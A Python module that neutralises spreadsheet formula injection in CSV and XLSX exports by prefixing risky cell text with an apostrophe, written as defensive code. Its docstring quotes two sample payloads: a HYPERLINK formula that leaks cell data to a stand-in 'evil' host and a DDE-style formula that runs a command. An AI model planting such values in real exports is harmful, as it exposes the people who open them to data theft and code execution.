"""Spreadsheet-safe exports: one rule for every CSV and XLSX file spm_kernel writes.

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some also after a leading tab or carriage return), so a payee named
``=HYPERLINK("http://evil/?"&A1, "click")`` or a deal named ``@SUM(1+1)*cmd|' /C calc'!A0``
would run in the finance team's Excel when they open an export ("CSV injection").
:func:`neutralise` prefixes such text with an apostrophe, which Excel, LibreOffice and
Google Sheets show as plain text. Only *text* is touched: numbers (a negative amount such as
``-125.00``) are written as numbers, or in CSV as their exact decimal text, by the caller.

>>> neutralise("=1+1")
"'=1+1"
>>> neutralise("Acme")
'Acme'
>>> write_csv(pd.DataFrame({"name": ["@SUM(A1)"], "amount": [Decimal("-5.00")]}), "out.csv")  # doctest: +SKIP

Used by the statement CSV/XLSX (``reports.statements_xlsx``), the performance report XLSX
(``reports.performance_xlsx``) and ``spm quota territories --out`` (``planning.commands``).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """``value`` as cell text (``None`` -> ``""``), with a leading ``'`` when it starts like a
    formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def is_text(value: Any) -> bool:
    """True for values a spreadsheet would read as text (not numbers, dates or missing)."""
    return isinstance(value, str)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised; numbers,
    ``Decimal`` amounts, dates and missing values are left as they are."""
    out = frame.copy()
    for position in range(out.shape[1]):
        col = out.iloc[:, position]
        if col.dtype == object or isinstance(col.dtype, pd.StringDtype):
            values = [neutralise(v) if is_text(v) else v for v in col.tolist()]
            out[out.columns[position]] = pd.Series(values, index=col.index, dtype=object)
    out.columns = [neutralise(c) if is_text(c) else c for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, **to_csv: Any) -> Path:
    """Write ``frame`` as UTF-8 CSV (CRLF line ends) at ``path`` with every text cell
    neutralised (``Decimal`` values keep their exact text); ``to_csv`` options pass through
    (``index`` defaults to False). Returns the path."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    to_csv.setdefault("index", False)
    to_csv.setdefault("lineterminator", "\r\n")  # RFC 4180; and a text cell holding a CR is quoted
    neutralise_frame(frame).to_csv(path, **to_csv)
    return path


__all__ = ["FORMULA_PREFIXES", "is_text", "neutralise", "neutralise_frame", "write_csv"]
